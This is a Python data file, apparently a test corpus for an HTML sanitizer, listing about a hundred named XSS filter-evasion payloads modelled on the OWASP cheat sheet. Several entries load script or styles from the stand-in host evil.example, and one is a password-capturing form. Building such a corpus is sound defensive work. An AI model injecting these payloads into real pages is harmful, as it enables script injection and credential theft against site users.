"""Elements and attributes that run script, load things, restyle or take over the page.

Written for Showfloor after the element rows of the OWASP XSS filter evasion cheat sheet:
script in every spelling, event handlers on allowed and unknown tags, CSS expressions and
url(), srcset/poster/formaction/xlink:href, meta refresh, base href, forms, frames,
object/embed, SVG animate/set, DOM clobbering names, unclosed tags and comment tricks.
"""

ELEMENTS = {
    # Script elements.
    "script": "<script>alert(1)</script>",
    "script upper": "<SCRIPT>alert(1)</SCRIPT>",
    "script src": '<script src="https://evil.example/x.js"></script>',
    "script slash attr": "<script/xss src=https://evil.example/x.js></script>",
    "script gt in attr": '<script a=">" src="https://evil.example/x.js"></script>',
    "script split tags": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script double open": "<<script>alert(1);//<</script>",
    "script after title": "</title><script>alert(1)</script>",
    "script after textarea": "</textarea><script>alert(1)</script>",
    "script in svg": "<svg><script>alert&#40;1&#41;</script></svg>",
    "script type module": '<script type="module">alert(1)</script>',
    "script conditional comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    # Event handlers.
    "img onerror": "<img src=x onerror=alert(1)>",
    "img onerror slash": "<img/src=x/onerror=alert(1)>",
    "img src only slash": "<img src/onerror=alert(1)>",
    "img onerror entities": ("<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
    "img onmouseover": '<img src=# onmouseover="alert(1)">',
    "body onload": "<body onload=alert(1)>",
    "body odd handler name": "<body onload!#$%&()*~+-_.,:;?@[/|]^`=alert(1)>",
    "svg onload": "<svg/onload=alert(1)>",
    "details ontoggle": "<details open ontoggle=alert(1)>",
    "marquee onstart": "<marquee onstart=alert(1)>x</marquee>",
    "input autofocus": "<input autofocus onfocus=alert(1)>",
    "select autofocus": "<select autofocus onfocus=alert(1)></select>",
    "textarea autofocus": "<textarea autofocus onfocus=alert(1)></textarea>",
    "keygen autofocus": "<keygen autofocus onfocus=alert(1)>",
    "audio onerror": "<audio src=x onerror=alert(1)>",
    "video source onerror": "<video><source onerror=alert(1)></video>",
    "allowed a onclick": '<a href="https://ok.example" onclick="alert(1)">x</a>',
    "allowed p onmouseover": "<p onmouseover=alert(1)>hover</p>",
    "allowed td onclick": "<table><tr><td onclick=alert(1)>x</td></tr></table>",
    "allowed abbr onfocus": '<abbr title="t" tabindex=0 onfocus=alert(1)>A</abbr>',
    "unknown tag handler": "<xss onpointerover=alert(1)>x</xss>",
    "custom element handler": "<x-card onclick=alert(1)>x</x-card>",
    # CSS.
    "style element": "<style>body{display:none}</style>",
    "style import": "<style>@import 'https://evil.example/x.css';</style>",
    "style list image js": (
        '<style>li {list-style-image: url("javascript:alert(1)");}</style><ul><li>x</li></ul>'
    ),
    "style moz binding": "<style>body{-moz-binding:url(https://evil.example/x.xml#x)}</style>",
    "style attribute expression": '<p style="width: expression(alert(1));">x</p>',
    "style attribute split expression": '<p style="xss:expr/*c*/ession(alert(1))">x</p>',
    "style attribute url js": '<p style="background-image: url(javascript:alert(1))">x</p>',
    "style attribute escaped url": (
        '<p style="background-image:\\0075\\0072\\006C\\0028javascript:alert(1)\\0029">x</p>'
    ),
    "style attribute behavior": '<xss style="behavior: url(x.htc);">x</xss>',
    "style overlay link": (
        '<a href="https://evil.example" style="position:fixed;inset:0;z-index:99">x</a>'
    ),
    "link stylesheet": '<link rel="stylesheet" href="javascript:alert(1);">',
    "meta link header": (
        '<meta http-equiv="Link" content="<https://evil.example/x.css>; rel=stylesheet">'
    ),
    # Loading attributes.
    "img srcset": '<img srcset="x 1x, javascript:alert(1) 2x">',
    "picture source srcset": '<picture><source srcset="javascript:alert(1)"><img></picture>',
    "video poster": '<video poster="javascript:alert(1)"></video>',
    "img lowsrc dynsrc": '<img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">',
    "input image src": '<input type="image" src="javascript:alert(1)">',
    "table background": '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "body background": '<body background="javascript:alert(1)">',
    "blockquote cite js": '<blockquote cite="javascript:alert(1)">q</blockquote>',
    "br size expression": '<br size="&{alert(1)}">',
    # Forms.
    "form action": '<form action="javascript:alert(1)"><input type=submit></form>',
    "button formaction": '<form><button formaction="javascript:alert(1)">go</button></form>',
    "input formaction": '<input type="submit" formaction="javascript:alert(1)" value="go">',
    "isindex": '<isindex type=image src=1 onerror=alert(1) action="javascript:alert(1)">',
    "form password phish": (
        '<form action="https://evil.example/"><input name=password type=password></form>'
    ),
    # Frames, objects, navigation.
    "iframe js": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "frameset": '<frameset><frame src="javascript:alert(1)"></frameset>',
    "object data": '<object data="javascript:alert(1)"></object>',
    "object scriptlet": '<object type="text/x-scriptlet" data="https://evil.example/x"></object>',
    "embed svg": '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "applet": '<applet code="x.class" codebase="https://evil.example/"></applet>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "meta refresh data": '<meta http-equiv="refresh" content="0;url=data:text/html,x">',
    "meta charset": '<meta charset="UTF-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    "base href": '<base href="https://evil.example/">',
    "base js": '<base href="javascript:alert(1)//">',
    "base target": '<base target="_blank">',
    # SVG.
    "svg animate href": (
        '<svg><a><animate attributeName="href" values="javascript:alert(1)"/>'
        "<text x=20 y=20>x</text></a></svg>"
    ),
    "svg set handler": '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
    "svg animate onbegin": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "svg xlink href": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "svg use data": '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "svg image onerror": "<svg><image href=x onerror=alert(1)></image></svg>",
    "svg foreignobject iframe": (
        '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>'
    ),
    "math xlink href": (
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'
    ),
    # DOM clobbering of the page's own globals.
    "clobber id": '<a id="Showfloor" href="https://ok.example">x</a>',
    "clobber name": '<a name="live" href="https://ok.example">x</a>',
    "clobber form": '<form name="Showfloor"><input name="follow"></form>',
    # Unclosed tags and comment tricks.
    "unclosed img": "<img src=x onerror=alert(1)//",
    "unclosed a js": '<a href="javascript:alert(1)"',
    "unclosed script src": "<script src=https://evil.example/x.js?< b >",
    "unclosed iframe": "<iframe src=https://evil.example <",
    "attribute quote break": '<img """><script>alert(1)</script>">',
    "newline in tag": "<img src=x\nonerror=alert(1)>",
    "comment bang close": "<!-- --!><img src=x onerror=alert(1)>-->",
    "comment abrupt close": "<!--><img src=x onerror=alert(1)>-->",
    "comment dash close": "<!---><img src=x onerror=alert(1)>-->",
    "cdata": "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "processing instruction": "<?xml version=1?><img src=x onerror=alert(1)>",
    "bogus comment": "</ x=<img src=x onerror=alert(1)>>",
    "doctype": "<!DOCTYPE html><img src=x onerror=alert(1)>",
}
